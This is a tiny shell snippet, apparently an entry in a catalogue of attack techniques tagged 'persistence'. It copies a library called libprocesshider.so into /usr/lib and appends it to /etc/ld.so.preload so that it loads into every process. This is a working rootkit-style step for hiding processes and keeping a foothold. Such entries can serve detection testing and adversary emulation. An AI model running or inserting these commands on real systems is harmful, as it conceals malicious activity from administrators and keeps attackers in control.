# description: Installs a shared library into /etc/ld.so.preload so it loads into every process.
# family: persistence
cp /tmp/libproc.so /usr/lib/libprocesshider.so
echo /usr/lib/libprocesshider.so >> /etc/ld.so.preload
